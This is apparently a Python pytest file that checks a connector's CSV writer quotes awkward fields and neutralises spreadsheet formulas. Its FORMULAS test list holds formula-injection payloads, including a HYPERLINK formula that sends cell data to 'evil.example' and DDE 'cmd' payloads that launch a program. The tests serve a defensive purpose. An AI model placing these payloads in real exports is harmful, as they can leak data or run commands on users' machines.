"""Data cannot corrupt a CSV file: every field that needs quoting is quoted, formulas are neutralised.

Round trips are read back twice: with Python's own `csv` module and with the connector's reader.
"""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from connectors.files import CsvOptions
from connectors.files.formats import neutralise_formula
from runtime.connector_api import ConnectorError
from tests.connectors.files.conftest import Make, call

OPS: dict[str, dict[str, Any]] = {
    "write": {"action": "write", "path": "out.csv"},
    "raw": {"action": "write", "path": "out.csv", "escape_formulas": False},
    "append": {"action": "append", "path": "out.csv"},
    "read": {"action": "read", "path": "out.csv"},
}

# Values that need quoting (a bare CR was written unquoted and split the row on read)
AWKWARD = {
    "cr": "\r=2",
    "cr_inside": "a\rb",
    "lf": "line1\nline2",
    "crlf": "x\r\ny",
    "trailing_cr": "end\r",
    "delimiter": "Smith, Ann",
    "semicolon": "a;b",
    "quote": 'say "hi"',
    "apostrophe": "O'Brien",
    "empty": "",
}

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=2",
    "-",
    "=",
    "-1+1",
    "+0x1F",
]

NUMBERS_AS_TEXT = ["-5", "+3.25", "-0.5", "-.5", "-1e5", "+2E-3", "-12345678901234567890.01"]


def python_csv(path: Path, delimiter: str = ",", quotechar: str = '"') -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle, delimiter=delimiter, quotechar=quotechar))


@pytest.mark.parametrize("dialect", [{}, {"delimiter": ";", "quotechar": "'"}, {"delimiter": "\t"}])
def test_fields_that_need_quoting_round_trip(make: Make, base: Path, dialect: dict[str, str]) -> None:
    connector = make(OPS, csv=dialect)
    call(connector, "raw", data=[AWKWARD, {"cr": "second row"}])
    rows = python_csv(base / "out.csv", dialect.get("delimiter", ","), dialect.get("quotechar", '"'))
    assert rows == [list(AWKWARD), list(AWKWARD.values()), ["second row", *[""] * (len(AWKWARD) - 1)]]
    back = call(connector, "read")
    assert back[0] == AWKWARD
    assert len(back) == 2


def test_a_bare_cr_is_quoted_also_with_formula_escaping_on(make: Make, base: Path) -> None:
    connector = make(OPS)
    call(connector, "write", data=[{"a": "x\ry", "b": "\r=2"}])
    assert (base / "out.csv").read_bytes() == b'a,b\n"x\ry","\'\r=2"\n'
    assert python_csv(base / "out.csv") == [["a", "b"], ["x\ry", "'\r=2"]]
    assert call(connector, "read") == [{"a": "x\ry", "b": "'\r=2"}]


def test_lists_without_header_and_one_empty_field_rows(make: Make, base: Path) -> None:
    connector = make(OPS, csv={"header": False})
    rows = [["a\rb", "", 'q"q'], [""], ["=1", 2]]
    call(connector, "write", data=rows)
    assert python_csv(base / "out.csv") == [["a\rb", "", 'q"q'], [""], ["'=1", "2"]]
    assert call(connector, "read") == [["a\rb", "", 'q"q'], [""], ["'=1", "2"]]


def test_formula_prefixes_are_neutralised_by_default(make: Make, base: Path) -> None:
    connector = make(OPS)
    call(connector, "write", data=[{"value": text} for text in FORMULAS])
    expected = ["'" + text for text in FORMULAS]
    assert [row[0] for row in python_csv(base / "out.csv")[1:]] == expected
    assert [row["value"] for row in call(connector, "read")] == expected


def test_numbers_are_never_mangled(make: Make, base: Path) -> None:
    """Typed numbers (also negative decimals) and strings that are plain numbers are no formulas."""
    typed = [-5, Decimal("-5.50"), Decimal("-1E+2"), -1.5, 0, Decimal("+7")]
    connector = make(OPS)
    call(connector, "write", data=[{"n": value} for value in [*typed, *NUMBERS_AS_TEXT]])
    cells = [row[0] for row in python_csv(base / "out.csv")[1:]]
    assert cells == ["-5", "-5.50", "-100", "-1.5", "0", "7", *NUMBERS_AS_TEXT]


def test_column_names_from_data_are_neutralised_and_append_follows_them(make: Make, base: Path) -> None:
    connector = make(OPS)
    call(connector, "append", data=[{"=cmd": "=1", "id": 1}])
    call(connector, "append", data=[{"id": 2, "=cmd": "ok"}])
    assert python_csv(base / "out.csv") == [["'=cmd", "id"], ["'=1", "1"], ["ok", "2"]]


def test_escape_formulas_can_be_turned_off_per_operation(make: Make, base: Path) -> None:
    connector = make(OPS)
    call(connector, "raw", data=[{"value": text} for text in FORMULAS])
    assert [row["value"] for row in call(connector, "read")] == FORMULAS
    call(connector, "write", {"escape_formulas": False}, data=[{"v": "=1"}])
    assert (base / "out.csv").read_text() == "v\n=1\n"


def test_other_formats_are_written_as_they_are(make: Make, base: Path) -> None:
    connector = make(OPS)
    call(connector, "write", {"path": "out.json"}, data={"v": "=1"})
    call(connector, "write", {"path": "out.txt"}, data="=1")
    assert (base / "out.json").read_text() == '{"v": "=1"}\n'
    assert (base / "out.txt").read_text() == "=1"


@pytest.mark.parametrize(
    ("text", "expected"),
    [("=1", "'=1"), ("-5", "-5"), ("-5x", "'-5x"), ("safe", "safe"), ("", ""), ("1-1", "1-1"), ("-٣", "'-٣")],
)
def test_neutralise_formula(text: str, expected: str) -> None:
    assert neutralise_formula(text) == expected


def test_append_with_escaping_follows_a_header_written_without_it(make: Make, base: Path) -> None:
    connector = make(OPS)
    call(connector, "raw", data=[{"=cmd": "a"}])
    call(connector, "append", data=[{"=cmd": "=b"}])
    assert python_csv(base / "out.csv") == [["=cmd"], ["a"], ["'=b"]]


def test_column_names_that_collide_once_escaped_are_refused(make: Make, base: Path) -> None:
    with pytest.raises(ConnectorError, match="same once formulas are escaped"):
        call(make(OPS), "write", data=[{"=a": 1, "'=a": 2}])
    assert not (base / "out.csv").exists()


@pytest.mark.parametrize("dialect", [{"delimiter": '"'}, {"delimiter": "\n"}, {"quotechar": "\r"}])
def test_dialects_that_cannot_be_written_safely_are_refused(dialect: dict[str, str]) -> None:
    with pytest.raises(ValidationError):
        CsvOptions.model_validate(dialect)
